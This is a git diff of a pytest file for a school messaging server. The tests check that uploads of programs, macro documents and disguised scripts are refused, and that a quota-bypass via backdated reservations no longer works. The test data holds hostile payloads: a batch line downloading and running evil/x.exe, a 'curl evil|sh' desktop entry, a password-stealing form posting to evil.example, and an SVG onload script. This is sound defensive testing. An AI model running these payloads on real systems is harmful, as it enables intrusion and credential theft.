@@ -20,6 +20,7 @@ import contextlib
 import hashlib
 import os
 import socket
+import sqlite3
 import subprocess
 import time
 import uuid
@@ -27,16 +28,32 @@ from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
 
+import psycopg2
 import pytest
 from ruamel.yaml import YAML
 
+from spaces_provisioner.homeserver.config_file import read_synapse_config
 from spaces_provisioner.install.installation import init_installation
 from spaces_provisioner.install.supervisor import running
 from spaces_provisioner.settings import Settings
 
 from ..conftest import PG_ADMIN_DSN, SERVER_NAME, _pg, relax_rate_limits
 from ..debian import ensure_package
-from ..files import EICAR, MSI_CLSID, PDF, PE, WORD_CLSID, compound_file, pdf_of, png
+from ..files import (
+    APK,
+    EICAR,
+    JAR,
+    MSI_CLSID,
+    PDF,
+    PE,
+    PYZ,
+    WORD_CLSID,
+    compound_file,
+    pdf_of,
+    png,
+    word_document,
+    zip_of,
+)
 from ..helpers import Homeserver, User
 from ..processes import free_port
 from ..schools import attack_cast, write_attack_roster
@@ -248,7 +265,7 @@ async def test_pupil_uploads_a_script_and_a_web_page(w):
 
 
 async def test_teacher_uploads_the_eicar_test_virus(w):
-    body = refused(await upload(w.teacher, EICAR, "text/plain", "eicar.com"), "virus_found",
+    body = refused(await upload(w.teacher, EICAR, "text/plain", "eicar.txt"), "virus_found",
                    says="Parta.Test.EICAR")
     assert body["error"] == "В файле найден вирус (Parta.Test.EICAR.UNOFFICIAL), файл не сохранён"
     # the same through the two-step upload (MSC2246: create, then PUT the bytes)
@@ -260,6 +277,113 @@ async def test_teacher_uploads_the_eicar_test_virus(w):
         assert (r.status, (await r.json())["org.parta.reason"]) == (403, "virus_found")
     kept(await upload(w.teacher, b"A clean worksheet", "text/plain", "worksheet.txt"))
     kept(await upload(w.teacher, PDF, "application/pdf", "worksheet.pdf"))
+
+
+async def put_upload(u: User, data: bytes, content_type: str, filename: str, media_id: str | None = None,
+                     ) -> tuple[int, dict]:
+    """The two-step upload (MSC2246): ``POST /_matrix/media/v1/create`` (unless ``media_id`` is given),
+    then ``PUT /_matrix/media/v3/upload/{server}/{id}`` with the bytes: ``(status, JSON body)``."""
+    if media_id is None:
+        media_id = (await u.post("/_matrix/media/v1/create"))["content_uri"].rsplit("/", 1)[1]
+    async with u.api.session.put(f"{u.base_url}/_matrix/media/v3/upload/{SERVER_NAME}/{media_id}", data=data,
+                                 params={"filename": filename},
+                                 headers={"Authorization": f"Bearer {u.token}", "Content-Type": content_type}) as r:
+        return r.status, await r.json(content_type=None)
+
+
+async def test_pupil_uploads_programs_by_name_inside_a_zip_or_after_a_line_of_text(w):
+    """Issue 11 attack F2, the attacker's uploads: what the bytes alone took for an archive, an Office
+    document or plain text is a program by what the ZIP holds, by the name the file is saved under, or by
+    the claimed type; a web page hides no longer behind a first line of text."""
+    for data, content_type, filename, reason in (
+            (zip_of(APK), "application/vnd.android.package-archive", "hw.apk", "file_is_program"),
+            (zip_of(APK), "application/zip", "hw.zip", "file_is_program"),  # what it holds, whatever its name
+            (zip_of(JAR), "application/java-archive", "hw.jar", "file_is_program"),
+            (zip_of(PYZ), "application/octet-stream", "hw.pyz", "file_is_program"),
+            (b'@echo off\r\npowershell -c "iwr http://evil/x.exe -OutFile x.exe; start x.exe"\r\n',
+             "application/x-bat", "homework.bat", "file_is_program"),
+            (b'Homework list\r\n<html><head><HTA:APPLICATION/><script language="VBScript">'
+             b'CreateObject("WScript.Shell").Run "calc"</script></head></html>', "application/hta", "homework.hta",
+             "file_is_program"),
+            (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', "text/plain", "hw.vbs", "file_is_program"),
+            (b"# homework\nStart-Process calc\n", "text/plain", "hw.ps1", "file_is_program"),
+            (b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil|sh'\n", "text/plain", "hw.desktop",
+             "file_is_program"),
+            (b"homework\r\n", "application/x-bat", "notes.txt", "file_is_program"),  # the claimed type alone
+            (word_document(macros=True), "application/vnd.ms-word.document.macroEnabled.12", "homework.docm",
+             "file_has_macros"),
+            (word_document(macros=True), "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+             "homework.docx", "file_has_macros"),  # the macros inside, whatever the name
+            ("Ответы\n<html><body><form action='https://evil.example/steal'><input type=password></form>"
+             "<script>document.forms[0].submit()</script></body></html>".encode(), "text/plain", "otvety.txt",
+             "file_type_refused"),
+            (b"hi\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "text/plain", "a.txt",
+             "file_type_refused")):
+        body = refused(await upload(w.pupil, data, content_type, filename), reason)
+        if reason == "file_has_macros":
+            assert body["error"].startswith("Документы с макросами здесь пересылать нельзя"), body
+    # the two-step upload names the file in its PUT
+    refused(await put_upload(w.pupil, b"@echo off\r\n", "text/plain", "homework.bat"), "file_is_program")
+    # everyday files are kept
+    import io
+
+    import openpyxl
+
+    book = io.BytesIO()
+    openpyxl.Workbook().save(book)
+    for data, content_type, filename in (
+            ("Домашнее задание: §12, упр. 3\nЗадачи: 3 < 5, ответ <b>верный</b>".encode(), "text/plain", "dz.txt"),
+            ("Фамилия;Имя\nИванов;Иван\n".encode("cp1251"), "text/csv", "spisok.csv"),
+            (word_document(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+             "referat.docx"),
+            (book.getvalue(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "ocenki.xlsx"),
+            (PDF, "application/pdf", "lesson.pdf"), (png(), "image/png", "doska.png"),
+            (zip_of({"referat/referat.docx": word_document(), "app/src/main/AndroidManifest.xml": b"<manifest/>"}),
+             "application/zip", "project.zip"),
+            ("print('Привет')\n".encode(), "text/x-python", "zadacha.py")):
+        kept(await upload(w.pupil, data, content_type, filename))
+    assert (await put_upload(w.pupil, b"A worksheet", "text/plain", "worksheet.txt"))[0] == 200
+
+
+def _backdate_reservation(settings: Settings, media_id: str, created_ts: int) -> None:
+    """Set a reserved media id's ``created_ts`` in the homeserver's database: the test stands in for the
+    hours an attacker would wait between ``/create`` and the ``PUT``."""
+    db = read_synapse_config(settings.homeserver_config)["database"]
+    sql = "UPDATE local_media_repository SET created_ts = {0} WHERE media_id = {0}"
+    if db["name"] == "sqlite3":
+        with sqlite3.connect(db["args"]["database"]) as conn:
+            assert conn.execute(sql.format("?"), (created_ts, media_id)).rowcount == 1
+        return
+    args = {k: v for k, v in db["args"].items() if k not in ("cp_min", "cp_max")}
+    args["dbname"] = args.pop("database")
+    conn = psycopg2.connect(**args)
+    try:
+        with conn, conn.cursor() as cur:
+            cur.execute(sql.format("%s"), (created_ts, media_id))
+            assert cur.rowcount == 1
+    finally:
+        conn.close()
+
+
+async def test_outsider_reserves_an_upload_to_pass_the_quota_twice(w, up, up_installation):
+    """Issue 11 attack F7: Synapse counts a person's uploads by ``created_ts``, which ``/create`` sets. An id
+    reserved (almost) a day before the ``PUT`` would count in a window that closes seconds later, and the
+    day's quota could then be uploaded again. The reservation counts from its ``PUT``: after the window it
+    was reserved in has closed, the outsider's day still holds those bytes."""
+    outsider = await up.outsider()
+    media_id = (await outsider.post("/_matrix/media/v1/create"))["content_uri"].rsplit("/", 1)[1]
+    day_ms, margin_ms = 86_400_000, 8_000
+    _backdate_reservation(up_installation, media_id, int(time.time() * 1000) - day_ms + margin_ms)
+    kept_put = await put_upload(outsider, pdf_of(2 * MB), "application/pdf", "a.pdf", media_id)
+    assert kept_put[0] == 200, kept_put
+    await asyncio.sleep(margin_ms / 1000 + 1)  # the day the id was reserved in is over
+    for _ in range(4):
+        kept(await upload(outsider, pdf_of(2 * MB), "application/pdf"))
+    refused(await upload(outsider, pdf_of(2 * MB), "application/pdf"), "upload_quota_exceeded",
+            errcode="M_USER_LIMIT_EXCEEDED", says="10 MB per day")
+    # a two-step upload made at once is kept as before
+    kept_put = await put_upload(await up.outsider(), pdf_of(2 * MB), "application/pdf", "b.pdf")
+    assert kept_put[0] == 200, kept_put
 
 
 async def test_upload_while_clamd_is_down_is_refused_by_default(w, clamd):
